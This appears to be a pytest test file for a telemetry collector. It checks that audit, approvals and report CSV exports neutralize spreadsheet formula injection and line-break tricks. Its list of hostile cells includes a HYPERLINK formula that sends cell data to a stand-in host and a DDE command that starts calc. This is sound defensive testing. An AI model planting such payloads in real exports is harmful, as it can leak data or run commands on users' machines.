"""Every CSV export is safe to open in a spreadsheet: no cell starts a formula, CR/LF never break a row."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import orjson
import pytest

from collector import cli, csvsafe
from collector.compliance.approvals import COLUMNS, write_rows
from collector.pipeline import record_row
from collector.processing.decode import LogEvent
from collector.processing.normalize import event_time_ns, normalize_log
from collector.reports.render import completeness_csv
from collector.store.sqlite import AuditStore

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\x00\x1b=cmd|' /C calc'!A0",
    "\u200b=1+1",
    "\uff1d1+1",
    "safe\r=1+1",
    "safe\n=1+1",
    "safe\r\n@x",
    'quote " and, comma',
]

DANGEROUS_FIRST = set("=+-@\t\r\n") | csvsafe.FORMULA_START


def assert_spreadsheet_safe(text: str, expected_cells: list[str] | None = None) -> list[list[str]]:
    """Parse ``text`` with :mod:`csv` and check, as a spreadsheet would read it, that no cell can start a formula:
    its first character after whitespace and control characters is never a formula character, unless the cell is
    prefixed with ``'``."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for c in row:
            if c.startswith("'"):
                continue
            stripped = c.lstrip("".join(chr(i) for i in range(33)) + "\u200b\u00a0\u3000")
            assert not stripped or stripped[0] not in DANGEROUS_FIRST, f"formula cell {c!r}"
            assert not c or c[0] not in DANGEROUS_FIRST, f"formula cell {c!r}"
    # the number of lines a naive line-by-line reader sees: no row is broken by a bare CR
    if expected_cells is not None:
        seen = [c for row in rows[1:] for c in row]
        for value in expected_cells:
            assert "'" + value in seen or value in seen
    return rows


@pytest.mark.parametrize("value", HOSTILE)
def test_cell_is_neutralized_and_round_trips(value: str) -> None:
    text = csvsafe.format_row(["a", value, 3])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1, f"row broken: {text!r}"
    a, got, n = rows[0]
    assert (a, n) == ("a", "3")
    assert got in (value, "'" + value)
    assert_spreadsheet_safe(text)


def test_numbers_and_plain_text_are_written_unchanged() -> None:
    assert csvsafe.format_row([-3, 1.5, True, None, "ls -la", "a-b"]) == "-3,1.5,true,,ls -la,a-b\n"
    assert csvsafe.neutralize("-3") == "'-3"  # text is neutralized, even when it looks like a number


def test_a_bare_cr_is_quoted_so_it_cannot_start_a_row() -> None:
    text = csvsafe.format_row(["x\r=1+1"])
    assert text == '"x\r=1+1"\n'


def _event(command: str, seq: int) -> LogEvent:
    t = int(datetime(2024, 3, 10, 10, 0, tzinfo=UTC).timestamp()) * 1_000_000_000 + seq
    return LogEvent(
        resource={"service.name": "claude-code"},
        scope_name="com.anthropic.claude_code.events",
        scope_version="2.1.332",
        time_unix_nano=t,
        observed_time_unix_nano=t,
        severity_number=0,
        severity_text="",
        body="claude_code.tool_decision",
        event_name="",
        attributes={
            "session.id": "=s1",
            "event.sequence": seq,
            "user.email": "@attacker",
            "tool_name": "+Bash",
            "decision": "accept",
            "source": "config",
            "tool_parameters": orjson.dumps({"full_command": command}).decode(),
        },
        trace_id="",
        span_id="",
        flags=0,
    )


def test_audit_export_csv_neutralizes_every_cell(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    d = tmp_path / "data"
    rows = []
    received = 1_800_000_000_000_000_000
    for i, cmd in enumerate(HOSTILE):
        ev = _event(cmd, i)
        for rec in normalize_log(ev, received, "http"):
            rows.append(record_row(rec, event_time_ns(ev, received), received // 1_000_000))
    with AuditStore(d) as store:
        store.append_sync(records=rows)
    assert cli.main(["audit", "export", "--data-dir", str(d), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    parsed = assert_spreadsheet_safe(out, HOSTILE)
    assert len(parsed) == 1 + len(HOSTILE)
    commands = {r["command"] for r in csv.DictReader(io.StringIO(out, newline=""))}
    assert commands == {csvsafe.neutralize(c) for c in HOSTILE}


def test_approvals_export_neutralizes_and_quotes_cr() -> None:
    buf = io.StringIO()
    rows = [dict.fromkeys(COLUMNS, None) | {"command": cmd, "session_id": "=s1", "outcome": "-"} for cmd in HOSTILE]
    assert write_rows(rows, buf, "csv") == len(HOSTILE)
    parsed = assert_spreadsheet_safe(buf.getvalue(), HOSTILE)
    assert len(parsed) == 1 + len(HOSTILE)


def test_report_csv_neutralizes_text_cells() -> None:
    from collector.reports.render import GAP_COLUMNS

    gaps = [dict.fromkeys(GAP_COLUMNS, 1) | {GAP_COLUMNS[0]: cmd} for cmd in HOSTILE]
    text = completeness_csv({"gaps": gaps})
    parsed = assert_spreadsheet_safe(text, HOSTILE)
    assert len(parsed) == 1 + len(HOSTILE)
